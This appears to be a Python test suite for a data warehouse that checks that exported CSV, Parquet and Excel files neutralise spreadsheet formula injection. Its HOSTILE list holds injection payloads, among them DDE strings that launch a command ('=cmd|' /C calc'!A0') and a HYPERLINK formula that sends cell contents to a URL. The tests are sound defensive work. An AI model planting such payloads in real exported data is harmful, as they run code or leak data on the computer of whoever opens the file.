"""No text of the data runs as a formula, in any file that leaves the house; numbers stay numbers.

One text, `=HYPERLINK(…)` from a register or a label, would run on the computer of whoever opens the file.
"""

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import duckdb
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from dashboards.hand_in import findings_csv
from dashboards.queries import reading
from support import release_build
from warehouse import formulas
from warehouse.cli.main import app
from warehouse.rejected import ERROR_COLUMNS, Finding, write_findings
from warehouse.release import exports
from warehouse.release.tables import describe
from warehouse.reports.pack.content import About, Figure, Grid, Report, Section
from warehouse.reports.pack.documents import documents
from warehouse.reports.pack.folder import _codebook
from warehouse.reports.tracking_workbook import About as TrackingAbout
from warehouse.reports.tracking_workbook import workbook as tracking_workbook
from warehouse.settings import get_settings
from warehouse.sources.evaluation.template import write_template as write_evaluation_template
from warehouse.sources.ilostat.rules import write_errors
from warehouse.sources.register.template import write_register, write_template

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = (
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0",
    "no harm; =1+1",
    "no harm;=1+1",
    'no harm;"=1+1',
    "two lines\n=1+1",
    "two lines\r\n@x",
    "tab\t+1",
)
HARMLESS = ("", "plain", "a-b", "1 = 1", "me@example.org", "12; 13", "'quoted'", "Viêt Nam – 5 %", "x\n\ny")
texts = st.text(st.sampled_from([*SIGNS, ";", '"', "'", ",", "a", "1", " ", "é"]), max_size=12)


def _runs(cell: str) -> bool:
    return cell.startswith(SIGNS)


def _content(path: Path) -> str:
    """A file as text, its line ends as they are."""
    return path.read_bytes().decode("utf-8-sig")


def _cells(content: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.fault(27)
@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_runs_under_no_delimiter_and_in_no_line(text: str) -> None:
    told = formulas.plain(text)
    for delimiter in (",", ";", "\t"):
        assert not any(_runs(cell) for cell in _cells(formulas.csv_text(["n"], [[text]]), delimiter))
    assert not any(
        _runs(part) for part in told.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";") if part
    )
    assert formulas.as_typed(told) == text


@pytest.mark.fault(27)
@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert formulas.plain(text) == text
    assert not formulas.is_formula(text)


@pytest.mark.fault(27)
@pytest.mark.parametrize("value", [-5, -1.5, Decimal("-0.10"), date(2024, 2, 29), None, True])
def test_what_is_no_text_is_left_alone(value: Any) -> None:
    assert formulas.plain(value) is value


@pytest.mark.fault(27)
@settings(deadline=None, max_examples=60)
@given(st.lists(texts, min_size=1, max_size=5))
def test_the_three_engines_agree(given_texts: list[str]) -> None:
    in_python = [formulas.plain(text) for text in given_texts]
    column = reading._without_formulas(pa.chunked_array([pa.array(given_texts)]))
    assert column.to_pylist() == in_python
    with duckdb.connect() as connection:
        asked = ", ".join(formulas.plain_sql(f"${place}::varchar") for place in range(1, len(given_texts) + 1))
        assert list(connection.execute(f"select {asked}", given_texts).fetchall()[0]) == in_python
    assert not any(_runs(text) for text in in_python)


@pytest.fixture
def table(tmp_path: Path) -> duckdb.DuckDBPyConnection:
    """A published table of hostile texts beside numbers."""
    connection = duckdb.connect()
    connection.execute("attach ':memory:' as target; create schema target.strategy")
    connection.execute("create table target.strategy.outputs (label varchar, share double, amount decimal(9, 2))")
    rows = [[text, -1.5, Decimal("-5.10")] for text in HOSTILE + HARMLESS]
    connection.executemany("insert into target.strategy.outputs values (?, ?, ?)", rows)
    return connection


@pytest.mark.fault(27)
def test_the_files_of_a_release(table: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    """The CSV is for spreadsheets; Parquet and DuckDB hold every text as it was handed in."""
    (outputs,) = describe(table, "target")
    exports.write_csv(table, outputs, tmp_path)
    exports.write_parquet(table, outputs, tmp_path, {"release_id": "R"})
    content = _content(tmp_path / exports.csv_path(outputs))
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert [row["label"] for row in rows] == [formulas.plain(text) for text in HOSTILE + HARMLESS]
    assert {(float(row["share"]), row["amount"]) for row in rows} == {(-1.5, "-5.10")}
    exact = pq.read_table(tmp_path / exports.parquet_path(outputs)).column("label").to_pylist()
    assert exact == list(HOSTILE + HARMLESS)


@pytest.mark.fault(27)
def test_a_download_of_the_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = pa.table({"label": pa.array(HOSTILE), "value": pa.array([-1.5] * len(HOSTILE))})
    monkeypatch.setattr(reading, "arrow", lambda _source, _sql: rows)
    content = reading.csv(reading.Source("", ""), "").decode("utf-8-sig")
    told = list(csv.DictReader(io.StringIO(content, newline="")))
    assert [row["label"] for row in told] == [formulas.plain(text) for text in HOSTILE]
    assert {float(row["value"]) for row in told} == {-1.5}


@pytest.mark.fault(27)
def test_lists_of_errors(tmp_path: Path) -> None:
    findings = [Finding("line 2", "Reason", text, "It is wrong.", "Mend it.") for text in HOSTILE]
    with duckdb.connect() as connection:
        connection.execute(
            "create table errors (position int, place text, column_name text, value text, rule text, remedy text)"
        )
        rows = [[place, *(getattr(one, name) for name in ERROR_COLUMNS)] for place, one in enumerate(findings)]
        connection.executemany("insert into errors values (?, ?, ?, ?, ?, ?)", rows)
        of_data = _content(write_errors(connection, tmp_path / "data.csv"))
    of_form = _content(write_findings(tmp_path / "form.csv", findings))
    of_page = findings_csv(findings).decode("utf-8-sig")
    for content in (of_data, of_form, of_page):
        told = [row["value"] for row in csv.DictReader(io.StringIO(content, newline=""))]
        assert told == [formulas.plain(text) for text in HOSTILE]
        assert [formulas.as_typed(value) for value in told] == list(HOSTILE)


@pytest.mark.fault(27)
def test_an_answer_of_the_command_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    settings = get_settings(home=tmp_path / "home")
    release_build.make_build(settings.build_file)
    release_build.publish_build(settings)
    monkeypatch.setenv("DWSC_HOME", str(settings.home))
    asked = 'select output_id, "odd, ""name"" here" as "=1+1", budget from strategy.outputs order by output_id'
    answer = CliRunner().invoke(app, ["query", asked, "--csv"])
    assert answer.exit_code == 0, answer.output
    rows = list(csv.reader(io.StringIO(answer.stdout, newline="")))
    assert rows[0] == ["output_id", "'=1+1", "budget"]
    assert rows[2] == ["O2", "'=1+1", "-5.125"]


def _typed_cells(content: bytes | Path) -> dict[str, tuple[str, bool]]:
    """By text of the cells that would run if they were formulas: how the cell is kept."""
    book = openpyxl.load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    return {str(cell.value): (cell.data_type, cell.quotePrefix) for cell in cells if _runs(str(cell.value or ""))}


@pytest.mark.fault(27)
def test_the_workbook_of_the_tracking_table() -> None:
    rows = pa.table({"indicator_label": pa.array(HOSTILE), "reference_area_label": pa.array(HOSTILE)})
    told = _typed_cells(tracking_workbook(rows, TrackingAbout("R", "2026-06-30", is_sample=True, licence="None.")))
    assert len(told) >= len(SIGNS)
    assert set(told.values()) == {("s", True)}


@pytest.mark.fault(27)
def test_the_annex_of_a_report() -> None:
    about = About(
        kind="trial", title="Trial", subtitle="As of", release_id="20260101_000000", as_of="2025-03-01",
        built_at="2026-01-01T00:00:00+00:00", is_sample=False, code="abc", licence="None.", citation="Cite.",
    )  # fmt: skip
    figures = Grid("Figures", tuple("ABCDEF"), (False,) * 6, (("[1]", "3", *HOSTILE[:4]),), anchors=("figure-1",))
    files = Grid("Files", ("File", "Licence"), (False, False), tuple((text, "None.") for text in HOSTILE))
    annex = tuple(Section(each.title, each.title, (each,)) for each in (figures, figures, files))
    figure = Figure("q.due_count", 1, "-3", -3, "what", "q", "")
    report = Report(about, (), annex, (figure,), ())
    told = _typed_cells(documents(report)["annex.xlsx"]())
    assert len(told) >= len(SIGNS)
    assert told.pop("-3") == ("n", False), "a negative number stays one"
    assert set(told.values()) == {("s", True)}


@pytest.mark.fault(27)
def test_the_code_book_of_a_report(tmp_path: Path) -> None:
    database = tmp_path / "made.duckdb"
    with duckdb.connect(str(database)) as connection:
        connection.execute("create schema guide")
        connection.execute(
            "create table guide.dictionary as select 's' as schema_name, 't' as table_name, 'c' as column_name, "
            "1 as column_position, 'double' as data_type, '=1+1' as description, '@x' as table_description"
        )
    content = _codebook(SimpleNamespace(database=database, release_id="R")).decode("utf-8-sig")
    cells = _cells(content, ",")
    assert "'=1+1" in cells
    assert not any(_runs(cell) for cell in cells)


@pytest.mark.fault(27)
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_an_empty_form_holds_no_text_that_runs(kind: str, tmp_path: Path) -> None:
    path = tmp_path / f"form.{kind}"
    write_template(path, periods=["2024H2"], csv=kind == "csv", today=date(2025, 1, 15))
    if kind == "csv":
        assert not any(_runs(cell) for cell in _cells(_content(path), ","))
    else:
        assert all(kind == "f" for kind, _ in _typed_cells(path).values()), "only the form's own formulas"


@pytest.mark.fault(27)
def test_a_filled_form_keeps_what_was_typed_as_text(tmp_path: Path) -> None:
    path = tmp_path / "form.xlsx"
    row = {"phase_id": "O04-S2", "reporting_period_id": "2024H2", "reason": '=HYPERLINK("http://x","y")'}
    write_register(path, [row], submitted_on=date(2025, 1, 15), reporter="@unit", data_kind="sample")
    told = _typed_cells(path)
    assert told["@unit"][0] == "s"
    assert told[row["reason"]][0] == "s"


@pytest.mark.fault(27)
def test_the_form_of_the_evaluation_holds_no_text_that_runs(tmp_path: Path) -> None:
    path = tmp_path / "evaluation.xlsx"
    write_evaluation_template(path)
    assert all(kind == "f" for kind, _ in _typed_cells(path).values())
